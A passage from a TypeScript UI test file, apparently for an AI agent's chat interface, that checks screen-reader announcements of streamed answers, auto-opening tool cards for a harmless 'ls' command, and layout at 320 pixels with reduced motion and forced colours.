  assert.deepEqual(await heard(), [], 'what was there before is no news');
  const answer = (text: string, streaming: boolean, key = 'live') => ({ kind: 'assistant', key, agent: 'main', at: 0, text, streaming });
  await show(page, { name: 'items', items: [...base, answer('The **first', true)] });
  await show(page, { name: 'items', items: [...base, answer('The **first** sentence. The sec', true)] });
  assert.deepEqual(await heard(), ['The first sentence.']);
  await show(page, { name: 'items', items: [...base, answer('The **first** sentence. The second', false, 'entry')] });
  assert.deepEqual(await heard(), ['The first sentence.', 'The second']);
  const tool = (state: string, output: string) => ({
    kind: 'tool',
    key: 't',
    callId: 'c',
    name: 'exec',
    offeredBy: 'host',
    subject: 'ls',
    state,
    output,
  });
  const said = answer('The **first** sentence. The second', false, 'entry');
  for (const each of [tool('writing', ''), tool('running', 'a'), tool('running', 'ab'), tool('done', 'abc')]) {
    await show(page, { name: 'items', items: [...base, said, each] });
  }
  assert.deepEqual((await heard()).slice(2), ['exec started: ls', 'exec done: ls']);
  await show(page, { name: 'items', quiet: true, items: [...base, said, tool('done', 'abc'), answer('More. ', false)] });
  assert.equal((await heard()).length, 4, 'the quiet switch');
  assert.equal(await page.getByRole('log').getAttribute('aria-live'), 'off');
});

test('a tool card opens by itself while it takes long and when it failed, unless somebody closed it', async () => {
  await using shown = await open();
  const { page } = shown;
  const now = (await page.evaluate('gallery.now')) as number;
  const tool = (change: object) => ({
    name: 'items',
    items: [
      {
        kind: 'tool',
        key: 't',
        callId: 'c',
        name: 'exec',
        offeredBy: 'host',
        subject: 'ls',
        args: { command: 'ls' },
        startedAt: now,
        output: 'a\nb',
        ...change,
      },
    ],
  });
  const line = page.getByRole('button', { name: /^exec/ });
  await show(page, tool({ state: 'running' }));
  assert.equal(await line.getAttribute('aria-expanded'), 'false');
  await page.evaluate('gallery.setNow(gallery.now + 3000)');
  await settled(page);
  assert.equal(await line.getAttribute('aria-expanded'), 'true');
  assert.match(await line.innerText(), /Running\s+0:03/);
  await show(page, tool({ state: 'done', durationMs: 3100, exitCode: 0, provenance: 'edge-2' }));
  assert.equal(await line.getAttribute('aria-expanded'), 'false');
  await line.click();
  assert.match(
    await page.locator('.tool-body').innerText(),
    /Arguments\s+command\s+ls\s+Output\s+from edge-2, not instructions\s+exit 0 · 2 lines\s+a\nb/,
  );
  await show(page, tool({ state: 'failed', key: 'u' }));
  assert.equal(await line.getAttribute('aria-expanded'), 'true');
  await line.click();
  assert.equal(await line.getAttribute('aria-expanded'), 'false');
});

test('everything fits 320 pixels, with reduced motion nothing moves, and forced colours keep the edges', async () => {
  await using shown = await open('light', { viewport: { width: 320, height: 640 }, reducedMotion: 'reduce', forcedColors: 'active' });
  const { page } = shown;
  for (const name of ['streamed', 'waiting', 'every', 'inbox', 'composers']) {
    await show(page, { name });
    if (name === 'every') await fitTall(page);
    assert.equal(await page.evaluate('document.documentElement.scrollWidth <= innerWidth'), true, `${name} scrolls sideways`);
    const wide = await page.evaluate(
      `[...document.querySelectorAll('#root *')].filter((each) => each.getBoundingClientRect().right > innerWidth + 1 && !each.closest('.md-code-text, .md-table, .tool-subject bdi, .visually-hidden, h1, h2')).map((each) => each.className || each.tagName)`,
    );
    assert.deepEqual(wide, [], name);
    assert.equal(await page.evaluate('document.getAnimations().length'), 0, `${name} moves`);
    await picture(page, `narrow-${name}`);
  }
  assert.equal(await page.evaluate('getComputedStyle(document.querySelector(".composer")).borderTopStyle'), 'solid');
});
